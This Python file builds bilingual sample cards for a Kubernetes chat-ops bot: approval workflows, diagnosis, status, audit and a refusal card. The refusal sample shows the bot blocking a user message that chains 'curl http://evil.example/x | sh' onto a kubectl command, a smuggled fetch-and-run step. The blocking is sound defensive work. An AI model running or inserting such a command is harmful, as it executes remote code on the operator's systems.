"""One card for every kind and state, as the daemon would make them: what renderers are looked at with."""

from datetime import UTC, datetime, timedelta
from typing import Literal, cast

from adapters.types import Conversation, Person
from bot.access import Access
from bot.actions import Action, State
from bot.answers import notice
from bot.book.cards import audit_page
from bot.book.chain import Mark
from bot.book.checks import Standing
from bot.book.search import Found
from bot.lines import LineState
from bot.orders import AccessOrder
from bot.pages import help_page, status_page
from bot.people_pages import whoami_page
from bot.store import Row
from bot.views import Views
from bot.words import Words
from cards.model import (
    Button,
    Card,
    Code,
    Diff,
    DiffLine,
    Fact,
    Input,
    LogLines,
    Named,
    Progress,
    Prose,
    Section,
    Table,
    Tone,
)
from setup_server.accounts import Role

Language = Literal["zh", "en"]

NIGHT = datetime(2024, 5, 18, 3, 12, tzinfo=UTC)
_WORDS: dict[Language, Words] = {"zh": Words("zh"), "en": Words("en")}


class Samples:
    """`samples(language)` in the making: `self(zh, en)` is the text in the language asked for."""

    def __init__(self, language: Language) -> None:
        self.language: Language = language
        self._words = _WORDS[language]

    def __call__(self, zh: str, en: str) -> str:
        return zh if self.language == "zh" else en

    def _asked(self) -> Fact:
        asker = Named(platform="feishu", id="ou_84aad35d084aa403a838cf73ee18467", name=self("李雷", "Li Lei"))
        return Fact(label=self("发起", "Asked by"), value="03:12", person=asker)

    def _approver(self) -> Named:
        return Named(platform="dingtalk", id="manager4220", name=self("韩梅梅", "Han Meimei"))

    def _approved(self) -> Fact:
        return Fact(label=self("批准", "Approved by"), value="03:14", person=self._approver())

    def _decided(self, zh: str, en: str) -> Button:
        return Button(id="decided", text=self(zh, en), disabled=True)

    def _command(self, *, folded: bool = False) -> Section:
        command = "kubectl set image deployment/nginx app=registry.example.com/shop/nginx:1.27.3 -n shop"
        return Section(title=self("等价命令", "Equivalent command"), body=Code(text=command), folded=folded)

    def _diff(self) -> Section:
        lines = (
            DiffLine(
                path="spec.template.spec.containers[app].image",
                before="registry.example.com/shop/nginx:1.25.4",
                after="registry.example.com/shop/nginx:1.27.3",
            ),
            DiffLine(path="spec.template.metadata.annotations[team]", before=None, after="shop"),
        )
        return Section(title=self("变更 2 处", "2 changes"), body=Diff(lines=lines), folded=True)

    def _sentence(self) -> str:
        return self(
            "把 deployment/nginx（shop）的镜像换成 nginx:1.27.3",
            "Change the image of deployment/nginx (shop) to nginx:1.27.3",
        )

    def _buttons(self) -> tuple[Button, ...]:
        reason = Input(name="reason", label=self("拒绝的原因", "Why not"))
        return (
            Button(
                id="approve",
                text=self("✅ 批准", "✅ Approve"),
                style="primary",
                twin=self("批准 7F3K", "approve 7F3K"),
                confirm=self("确定现在执行？", "Run it now?"),
            ),
            Button(
                id="deny",
                text=self("❌ 拒绝", "❌ Deny"),
                style="danger",
                twin=self("拒绝 7F3K 原因", "deny 7F3K reason"),
                input=reason,
            ),
        )

    def approval_waiting(self) -> Card:
        return Card(
            id="act-7f3k",
            kind="approval",
            digest="9f31c2d07a55",
            tone=Tone.WAITING,
            title=self("高危操作确认", "High-risk operation"),
            tag=self("待审批", "Waiting for approval"),
            summary=self._sentence(),
            facts=(
                Fact(
                    label=self("变化", "Change"),
                    value="image registry.example.com/shop/nginx:1.25.4 → registry.example.com/shop/nginx:1.27.3",
                ),
                Fact(
                    label=self("风险", "Risk"),
                    value=self("高 · 换镜像会替换全部 Pod", "high · a new image replaces every pod"),
                ),
                Fact(
                    label=self("影响", "Affects"),
                    value=self(
                        "3 个 Pod（就绪 3/3），逐个替换，最多多出 1 个",
                        "3 pods (3/3 ready), one at a time, at most 1 extra",
                    ),
                ),
                Fact(
                    label=self("注意", "Note"),
                    value=self("HPA nginx 会同时调整副本数（2–6）", "HPA nginx scales it too (2–6)"),
                ),
                self._asked(),
                Fact(label=self("有效期", "Valid until"), value=self("03:42（30 分钟）", "03:42 (30 minutes)")),
            ),
            sections=(self._command(), self._diff()),
            buttons=self._buttons(),
            footer=(
                self("编号 7F3K", "Code 7F3K"),
                self(
                    "管理员可点按钮，或 @我 回复「批准 7F3K」", "Administrators press a button or type “approve 7F3K”"
                ),
            ),
            link="https://steward.example.com/cards/act-7f3k",
        )

    def approval_severe(self) -> Card:
        waiting = self.approval_waiting()
        facts = {fact.label: fact for fact in waiting.facts}
        risk = self("高（严重） · 删除后不会自动恢复", "high (severe) · what is deleted does not come back by itself")
        command = "kubectl delete statefulset/db -n shop"
        return waiting.model_copy(
            update={
                "summary": self("删除 statefulset/db（shop）", "Delete statefulset/db (shop)"),
                "facts": (
                    Fact(label=self("风险", "Risk"), value=risk, alarm=True),
                    Fact(
                        label=self("影响", "Affects"),
                        value=self("Pod 3/3 就绪，全部停止", "3/3 pods ready, all of them stop"),
                    ),
                    facts[self("发起", "Asked by")],
                    facts[self("有效期", "Valid until")],
                ),
                "sections": (Section(title=self("等价命令", "Equivalent command"), body=Code(text=command)),),
            }
        )

    def _status(self, *, version: int, tone: Tone, tag: str, summary: str, final: bool = True) -> Card:
        return Card(
            id="act-7f3k",
            kind="status",
            version=version,
            tone=tone,
            title=self("更换镜像", "Change image"),
            tag=tag,
            summary=summary,
            facts=(self._asked(), self._approved()),
            buttons=(self._decided("✅ 已批准", "✅ Approved"),),
            footer=(self("编号 7F3K", "Code 7F3K"),),
            link="https://steward.example.com/cards/act-7f3k",
            final=final,
        )

    def approval_grant(self) -> Card:
        """Of the real views: who gets which role is an order of its own kind."""
        order = AccessOrder(
            verb="grant",
            person=Person(platform="feishu", id="ou_7d8a6e6df7621556", name=self("李雷", "Li Lei")),
            before=Role.MEMBER,
            after=Role.ADMINISTRATOR,
        )
        action = Action(
            id="act-7f3k",
            code="7F3K",
            state=State.WAIT_APPROVAL,
            order=order,
            requester=Person(platform="feishu", id="ou_2b3c", name=self("韩梅梅", "Han Meimei")),
            conversation=Conversation(platform="feishu", kind="group", id="oc_5ce6d572455d361153b7cb51da133945"),
            intent=self("授权 @李雷", "grant @Li Lei"),
            card_id="act-7f3k",
            created_at=NIGHT,
            expires_at=NIGHT + timedelta(minutes=15),
        )
        return Views(self._words).action_card(action)

    def approval_executing(self) -> Card:
        card = self._status(
            version=2, tone=Tone.RUNNING, tag=self("执行中", "Executing"), summary=self._sentence(), final=False
        )
        return card.model_copy(
            update={
                "progress": Progress(step=self("正在提交变更", "Submitting the change")),
                "sections": (self._command(folded=True),),
            }
        )

    def approval_verifying(self) -> Card:
        card = self._status(
            version=5, tone=Tone.VERIFYING, tag=self("验证中", "Verifying"), summary=self._sentence(), final=False
        )
        log = (
            "03:14:09 ScalingReplicaSet  Scaled up replica set nginx-6c9f7d8b45 to 1",
            "03:14:10 nginx-6c9f7d8b45-x2k9p  Pulled image in 812ms",
            "03:14:12 nginx-6c9f7d8b45-x2k9p  Started container app",
            "03:14:15 ScalingReplicaSet  Scaled down replica set nginx-7d4c5b6f88 to 2",
        )
        step = self("新副本就绪 2/3", "2/3 new replicas ready")
        return card.model_copy(update={"progress": Progress(percent=60, step=step), "log": log})

    def approval_success(self) -> Card:
        card = self._status(
            version=6,
            tone=Tone.SUCCESS,
            tag=self("成功", "Succeeded"),
            summary=self(
                "deployment/nginx（shop）已换成 nginx:1.27.3，3/3 个副本就绪",
                "deployment/nginx (shop) now runs nginx:1.27.3, 3/3 replicas ready",
            ),
        )
        evidence = (
            "Progressing  True  NewReplicaSetAvailable",
            "Available  True  MinimumReplicasAvailable",
            "nginx-6c9f7d8b45-x2k9p  Ready  restarts 0",
            "nginx-6c9f7d8b45-m4w7c  Ready  restarts 0",
            "nginx-6c9f7d8b45-zq8rt  Ready  restarts 0",
        )
        took = Fact(label=self("用时", "Took"), value=self("执行 0.2 秒，验证 24 秒", "0.2 s to apply, 24 s to verify"))
        return card.model_copy(
            update={
                "facts": (*card.facts, took),
                "sections": (
                    Section(title=self("证据", "Evidence"), body=LogLines(lines=evidence)),
                    self._command(folded=True),
                ),
                "buttons": (
                    *card.buttons,
                    Button(id="undo", text=self("↩️ 撤销", "↩️ Undo"), twin=self("撤销 7F3K", "undo 7F3K")),
                ),
            }
        )

    def approval_failed(self) -> Card:
        card = self._status(
            version=6,
            tone=Tone.FAILURE,
            tag=self("失败", "Failed"),
            summary=self(
                "新镜像拉不下来：nginx:1.27.33 不存在", "The new image cannot be pulled: nginx:1.27.33 does not exist"
            ),
        )
        evidence = (
            "nginx-5f6d8c9b7d-k8s2v  app  waiting  ImagePullBackOff",
            'Failed to pull image "registry.example.com/shop/nginx:1.27.33": not found',
            "ReplicaSet nginx-7d4c5b6f88 still serves: 3/3 ready",
        )
        now = Fact(
            label=self("现状", "Now"),
            value=self(
                "旧版本仍在服务（3/3 就绪），1 个新 Pod 起不来",
                "the old version still serves (3/3 ready); 1 new pod cannot start",
            ),
        )
        return card.model_copy(
            update={
                "facts": (now, *card.facts),
                "sections": (
                    Section(title=self("证据", "Evidence"), body=LogLines(lines=evidence)),
                    self._command(folded=True),
                ),
                "buttons": (
                    *card.buttons,
                    Button(
                        id="undo",
                        text=self("↩️ 撤销", "↩️ Undo"),
                        style="primary",
                        twin=self("撤销 7F3K", "undo 7F3K"),
                    ),
                ),
            }
        )

    def approval_unknown(self) -> Card:
        card = self._status(
            version=6,
            tone=Tone.WARNING,
            tag=self("结果不明", "Not known"),
            summary=self(
                "10 分钟内没有看到结果：2/3 个新副本就绪，最后一个一直 Pending",
                "No outcome within 10 minutes: 2/3 new replicas ready, the last one stays Pending",
            ),
        )
        advice = self(
            "集群里可能仍在进行。请先看 Pod 的事件，再决定等待还是撤销。",
            "It may still go on in the cluster. Look at the pod's events before you wait or undo.",
        )
        return card.model_copy(
            update={"sections": (Section(title=self("接下来", "What next"), body=Prose(text=advice)),)}
        )

    def _over(self, tag: str, summary: str, fact: Fact | None, *, decided: Button, tone: Tone = Tone.MUTED) -> Card:
        waiting = self.approval_waiting()
        return waiting.model_copy(
            update={
                "version": 2,
                "tone": tone,
                "tag": tag,
                "summary": summary,
                "facts": (self._asked(), *([fact] if fact else [])),
                "sections": (self._command(folded=True),),
                "buttons": (decided,),
                "footer": (self("编号 7F3K", "Code 7F3K"), self("什么都没有执行", "Nothing was run")),
                "final": True,
            }
        )

    def approval_denied(self) -> Card:
        fact = Fact(
            label=self("拒绝", "Denied by"),
            value=self("03:14 · 大促封网，明早再发", "03:14 · freeze tonight, ship tomorrow"),
            person=self._approver(),
        )
        decided = self._decided("❌ 已拒绝", "❌ Denied")
        return self._over(self("已拒绝", "Denied"), self._sentence(), fact, decided=decided)

    def approval_expired(self) -> Card:
        fact = Fact(label=self("过期", "Expired"), value=self("03:42，没有人批准", "03:42, nobody approved"))
        decided = self._decided("⌛ 已过期", "⌛ Expired")
        return self._over(self("已过期", "Expired"), self._sentence(), fact, decided=decided)

    def approval_cancelled(self) -> Card:
        asker = self._asked().person
        fact = Fact(label=self("取消", "Cancelled by"), value="", person=asker)
        decided = self._decided("🚫 已取消", "🚫 Cancelled")
        return self._over(self("已取消", "Cancelled"), self._sentence(), fact, decided=decided)

    def approval_stale(self) -> Card:
        card = self._over(
            self("已失效", "Out of date"),
            self(
                "deployment/nginx（shop）在审批期间被改动，需要重新审批",
                "deployment/nginx (shop) changed while this waited: approve it anew",
            ),
            None,
            decided=self._decided("⚠️ 已失效", "⚠️ Out of date"),
            tone=Tone.WARNING,
        )
        moved = DiffLine(path="spec.replicas", before="3", after="5")
        return card.model_copy(
            update={
                "sections": (
                    Section(title=self("期间的改动", "What moved"), body=Diff(lines=(moved,))),
                    *card.sections,
                ),
                "buttons": (
                    *card.buttons,
                    Button(
                        id="again",
                        text=self("🔄 重新发起", "🔄 Ask again"),
                        style="primary",
                        twin=self("重新发起 7F3K", "again 7F3K"),
                    ),
                ),
            }
        )

    def diagnosis(self) -> Card:
        log = (
            "2024-05-18T03:09:58Z INFO  starting shop-api 4.12.0",
            "2024-05-18T03:09:59Z ERROR cannot connect to postgres://shop:***@db.shop:5432/shop: connection refused",
            "2024-05-18T03:09:59Z FATAL giving up after 5 attempts",
        )
        pods = Table(
            columns=("Pod", self("状态", "Status"), self("就绪", "Ready"), self("重启", "Restarts")),
            rows=(
                ("shop-api-5d8f6c7b9-4xk2m", "CrashLoopBackOff", "0/1", "17"),
                ("shop-api-5d8f6c7b9-9rj7d", "CrashLoopBackOff", "0/1", "17"),
                ("shop-api-5d8f6c7b9-zz5wq", "Running", "1/1", "0"),
            ),
            roles=("name", "state", "ready", "text"),
        )
        return Card(
            id="dia-1",
            kind="diagnosis",
            title=self("诊断 deployment/shop-api（shop）", "Diagnosis of deployment/shop-api (shop)"),
            tag=self("发现 1 个问题", "1 finding"),
            tone=Tone.FAILURE,
            summary=self(
                "容器 app 反复崩溃：连不上数据库 db.shop:5432（connection refused）",
                "Container app keeps crashing: it cannot reach the database db.shop:5432 (connection refused)",
            ),
            facts=(
                Fact(label=self("把握", "Confidence"), value="90%"),
                Fact(label=self("副本", "Replicas"), value=self("1/3 就绪", "1/3 ready")),
                Fact(label=self("镜像", "Image"), value="registry.example.com/shop/api:4.12.0"),
                Fact(label=self("退出码", "Exit code"), value="1 (Error)"),
            ),
            sections=(
                Section(title=self("崩溃前的日志", "Log before the crash"), body=LogLines(lines=log)),
                Section(title="Pod", body=pods),
                Section(
                    title=self("事件", "Events"),
                    body=LogLines(
                        lines=(
                            "Warning BackOff 2m (x83) restarting failed container app in pod shop-api-5d8f6c7b9-4xk2m",
                        )
                    ),
                    folded=True,
                ),
            ),
            buttons=(
                Button(
                    id="step-1",
                    text=self("查看 db 的状态", "Look at db"),
                    style="primary",
                    twin=self("诊断 db", "diagnose db"),
                ),
                Button(
                    id="step-2",
                    text=self("重启 shop-api", "Restart shop-api"),
                    twin=self("重启 shop-api", "restart shop-api"),
                ),
            ),
            footer=(
                self("只读检查，没有改动任何东西", "Read-only: nothing was changed"),
                self("1 处敏感信息已遮盖", "1 secret masked"),
            ),
        )

    def notice(self) -> Card:
        pods = Table(
            columns=("NAME", "READY", "STATUS", "RESTARTS", "AGE", "NODE"),
            rows=(
                ("shop-api-5d8f6c7b9-4xk2m", "0/1", "CrashLoopBackOff", "17", "62m", "node-2"),
                ("nginx-6c9f7d8b45-m4w7c", "1/1", "Running", "0", "6d", "node-1"),
                ("nginx-6c9f7d8b45-x2k9p", "1/1", "Running", "0", "6d", "node-3"),
            ),
            roles=("name", "ready", "state", "text", "text", "detail"),
        )
        return Card(
            id="get-1",
            kind="notice",
            title=self("shop 里的 Pod", "Pods in shop"),
            summary=self("3 个 Pod，1 个不正常", "3 pods, 1 of them not well"),
            sections=(Section(title="kubectl get pods -n shop", body=pods),),
            footer=(self("03:12 的状态", "As of 03:12"),),
        )

    def question(self) -> Card:
        return Card(
            id="ask-1",
            kind="notice",
            tone=Tone.WAITING,
            title=self("需要确认", "Which one?"),
            tag=self("请选择", "Choose"),
            summary=self(
                "有 3 个叫 web 的对象，要重启哪一个？", "There are 3 objects called web. Which one shall I restart?"
            ),
            buttons=(
                Button(
                    id="choice-1",
                    text="deployment/web (shop)",
                    style="primary",
                    twin=self("重启 deployment/web -n shop", "restart deployment/web -n shop"),
                ),
                Button(
                    id="choice-2",
                    text="deployment/web (blog)",
                    twin=self("重启 deployment/web -n blog", "restart deployment/web -n blog"),
                ),
                Button(
                    id="choice-3",
                    text="statefulset/web (shop)",
                    twin=self("重启 statefulset/web -n shop", "restart statefulset/web -n shop"),
                ),
            ),
            footer=(self("也可以直接回复完整的名字", "You can also type the full name"),),
        )

    def refusal(self) -> Card:
        return Card(
            id="no-1",
            kind="notice",
            tone=Tone.WARNING,
            title=self("不能执行", "Not done"),
            tag=self("已拦截", "Blocked"),
            summary=self("这条命令含有 shell 语法，不会执行", "This command contains shell syntax and is not run"),
            sections=(
                Section(
                    title=self("你发的是", "You sent"),
                    body=Code(text="kubectl delete pod web-0; curl http://evil.example/x | sh"),
                ),
                Section(
                    title=self("可以这样说", "Say it like this"),
                    body=Prose(
                        text=self(
                            "kubectl delete pod web-0 -n shop\n或：删除 shop 里的 web-0",
                            "kubectl delete pod web-0 -n shop\nor: delete pod web-0 in shop",
                        )
                    ),
                ),
            ),
        )

    def help(self) -> Card:
        return help_page(self._words, "help").card

    def status(self) -> Card:
        lines: tuple[tuple[str, LineState, datetime], ...] = (
            ("dingtalk", LineState("up", NIGHT - timedelta(hours=7)), NIGHT - timedelta(seconds=4)),
            ("feishu", LineState("down", NIGHT - timedelta(minutes=2)), NIGHT - timedelta(minutes=2)),
        )
        return status_page(
            self._words, "status", lines=lines, cluster="v1.31.4", open_actions=(), admins=2, now=NIGHT
        ).card

    def audit(self) -> Card:
        rows = [
            ("王伟", "manager4220", "execute_set_image", "SUCCESS"),
            ("李雷", "ou_7d8a6e6df7621556", "approve_set_image", "REFUSED"),
            ("王伟", "manager4220", "execute_set_image", "FAILED"),
        ]
        book = [
            {
                "timestamp": (NIGHT - timedelta(minutes=9 * number)).isoformat(),
                "user_id": who,
                "user_name": name,
                "action_type": what,
                "target_resource": "deployment/nginx",
                "status": result,
            }
            for number, (name, who, what, result) in enumerate(rows)
        ]
        found = Found(rows=cast("list[Row]", book), count=len(book), more=False)
        return audit_page(
            self._words, "audit", found, Standing(head=Mark(1204, "")), about=(self("今天", "Today"),)
        ).card

    def whoami(self) -> Card:
        asker = Person(platform="feishu", id="ou_7d8a6e6df7621556", name=self("李雷", "Li Lei"))
        here = Conversation(platform="feishu", kind="group", id="oc_5ce6d572455d361153b7cb51da133945")
        return whoami_page(self._words, "whoami", asker, here, Access()).card

    def gap(self) -> Card:
        words = self._words
        platform = words("page.platform.feishu")
        text = words("gap.text", platform=platform, since="03:02:11", until="03:09:48")
        return notice(words, "gap", words("gap.title", platform=platform), text, tone=Tone.WARNING).card


STATES = (
    "approval_waiting",
    "approval_severe",
    "approval_grant",
    "approval_executing",
    "approval_verifying",
    "approval_success",
    "approval_failed",
    "approval_unknown",
    "approval_denied",
    "approval_expired",
    "approval_cancelled",
    "approval_stale",
    "diagnosis",
    "notice",
    "question",
    "refusal",
    "help",
    "status",
    "audit",
    "whoami",
    "gap",
)


def sample(state: str, language: Language) -> Card:
    card: Card = getattr(Samples(language), state)()
    return card.model_copy(update={"language": language})
